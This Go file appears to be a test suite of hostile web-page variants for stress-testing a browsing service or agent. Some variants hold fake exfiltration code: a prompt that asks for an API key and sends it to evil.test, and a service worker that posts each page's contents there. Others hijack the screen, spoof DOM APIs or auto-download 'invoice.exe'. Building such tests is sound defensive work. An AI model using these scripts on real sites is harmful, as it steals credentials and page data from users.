package sites

import "net/http"

// browserVariants use what a browser offers.
func browserVariants() []Change {
	return []Change{
		{Name: "alert", What: "an alert opens with each page", Want: passes(), pages: script(`ready(() => setTimeout(() => alert('Hello'), 100));`)},
		{Name: "alert-many", What: "twenty alerts open with each page", Want: passes("missing"), pages: script(`ready(() => setTimeout(() => { for (let i = 0; i < 20; i++) alert(i); }, 100));`)},
		{Name: "confirm", What: "a question opens; who says yes is led elsewhere", Want: passes().never(evil), pages: script(`
			ready(() => setTimeout(() => { if (confirm('Go on?')) location.href = 'https://evil.test/yes'; }, 100));`)},
		{Name: "prompt", What: "a question for the key opens", Want: passes().never(evil), pages: script(`
			ready(() => setTimeout(() => { const a = prompt('Your API key?'); if (a !== null) location.href = 'https://evil.test/?' + a; }, 100));`)},
		{Name: "before-unload", What: "the page asks whether to leave it", Want: passes(), pages: script(`addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'x'; });`)},
		{Name: "print", What: "the page prints itself", Want: passes(), pages: script(`ready(() => setTimeout(() => print(), 100));`)},
		{Name: "permissions", What: "the page asks for place, camera, notices, clipboard and devices", Want: passes(), pages: script(`
			const ask = () => { try { navigator.geolocation.getCurrentPosition(() => {}, () => {}); navigator.mediaDevices && navigator.mediaDevices.getUserMedia({audio: true, video: true}).catch(() => {});
				Notification.requestPermission(); navigator.clipboard.readText().catch(() => {}); navigator.requestMIDIAccess().catch(() => {}); navigator.storage.persist(); } catch {} };
			ready(ask); addEventListener('click', ask, true);`)},
		{Name: "full-screen", What: "each click makes the page fill the screen and catch the mouse", Want: passes("unusable"), pages: script(`
			addEventListener('click', () => { try { document.documentElement.requestFullscreen().catch(() => {}); document.body.requestPointerLock(); navigator.keyboard && navigator.keyboard.lock(); } catch {} }, true);`)},
		{Name: "file-chooser", What: "each click opens a choice of files", Want: passes(), pages: script(`
			ready(() => { const i = document.createElement('input'); i.type = 'file'; i.dataset.variant = ''; i.style.display = 'none'; document.body.append(i); addEventListener('click', e => { if (e.isTrusted) i.click(); }, true); });`)},
		{Name: "passkey", What: "the page asks for a passkey", Want: passes(), pages: script(`
			try { navigator.credentials.get({publicKey: {challenge: new Uint8Array(32), rpId: location.hostname}}).catch(() => {}); } catch {}`)},
		{Name: "save-file", What: "the page hands out a file by itself", Want: passes("off-host"), pages: script(`
			ready(() => { const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; a.download = 'invoice.exe'; a.click(); });`)},
		{Name: "save-link", What: "the page leads to a file of its own site", Want: passes("off-host", "no-load"), pages: func(service string, plain http.Handler) http.Handler {
			inner := script(`ready(() => setTimeout(() => { location.href = '/variant/file'; }, 200));`)(service, plain)
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/variant/file" {
					w.Header().Set("Content-Disposition", `attachment; filename="x.dmg"`)
					w.Header().Set("Content-Type", "application/octet-stream")
					_, _ = w.Write(make([]byte, 1<<20))
					return
				}
				inner.ServeHTTP(w, r)
			})
		}},
		{Name: "service-worker", What: "a service worker answers for the site from the second page on", Want: passes("missing", "no-load").never(evil), pages: func(service string, plain http.Handler) http.Handler {
			inner := script(`if (navigator.serviceWorker) navigator.serviceWorker.register('/variant-worker.js').catch(() => {});`)(service, plain)
			return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/variant-worker.js" {
					w.Header().Set("Content-Type", "text/javascript")
					_, _ = w.Write([]byte(`self.addEventListener('install', () => self.skipWaiting()); self.addEventListener('activate', e => e.waitUntil(clients.claim()));
self.addEventListener('fetch', e => { if (e.request.mode === 'navigate') e.respondWith(fetch(e.request).then(async r => { const t = await r.clone().text(); fetch('https://evil.test/sw', {method: 'POST', mode: 'no-cors', body: t}).catch(() => {}); return r; })); });`))
					return
				}
				inner.ServeHTTP(w, r)
			})
		}},
		{Name: "lying-page", What: "the page replaces what scripts find, measure and compare with", Want: passes("missing", "unusable"), pages: script(`
			const zero = () => ({x: 0, y: 0, left: 0, top: 0, right: 0, bottom: 0, width: 0, height: 0});
			Element.prototype.getBoundingClientRect = zero; document.elementFromPoint = () => document.body; window.getComputedStyle = () => ({display: 'block', visibility: 'visible', opacity: '1'});
			JSON.stringify = () => '{"key":"stolen"}'; Object.defineProperty(Element.prototype, 'innerText', {get: () => 'stolen'});`),
			Except: map[string]Want{"openrouter": passes("missing", "unusable", "wrong-input", "no-load"), "jina": passes("missing", "no-key")}},
		{Name: "lying-arrays", What: "the page spoils lists, maps and promises for other scripts", Want: passes("missing", "unusable"), pages: script(`
			ready(() => setTimeout(() => { const no = () => { throw new Error('spoiled'); }; Array.prototype.includes = no; Array.prototype.some = no; Map.prototype.get = no; WeakRef.prototype.deref = no; Node.prototype.contains = () => false; }, 300));`)},
		{Name: "debugger", What: "the page stops in the debugger again and again", Want: passes(), pages: script(`setInterval(() => { debugger; }, 50);`)},
		{Name: "busy", What: "scripts keep the page busy half of the time", Want: passes("missing", "unusable"), pages: script(`
			setInterval(() => { const end = performance.now() + 150; while (performance.now() < end); }, 300);`)},
		{Name: "busy-long", What: "a script keeps each page busy for four seconds", Want: passes("missing", "no-load"), pages: script(`
			ready(() => setTimeout(() => { const end = performance.now() + 4000; while (performance.now() < end); }, 50));`)},
		{Name: "churn", What: "a thousand elements come and go ten times a second", Want: passes("missing", "unusable"), pages: script(`
			ready(() => { const d = add(''); setInterval(() => { d.innerHTML = '<i>x</i>'.repeat(1000); }, 100); });`)},
		{Name: "storage", What: "the page fills what it may store", Want: passes(), pages: script(`try { for (let i = 0; i < 5; i++) localStorage.setItem('k' + i, 'x'.repeat(900000)); } catch {}`)},
		{Name: "close", What: "the page closes its window", Want: passes("browser"), pages: script(`ready(() => setTimeout(() => window.close(), 200));`)},
		{Name: "rename", What: "the page changes its domain and its name", Want: passes(), pages: script(`window.name = 'x'.repeat(100000); try { document.domain = location.hostname; } catch {}`)},
		{Name: "picture", What: "the page goes into a small window over others", Want: passes(), pages: script(`addEventListener('click', () => { try { documentPictureInPicture.requestWindow().catch(() => {}); } catch {} }, true);`)},
	}
}
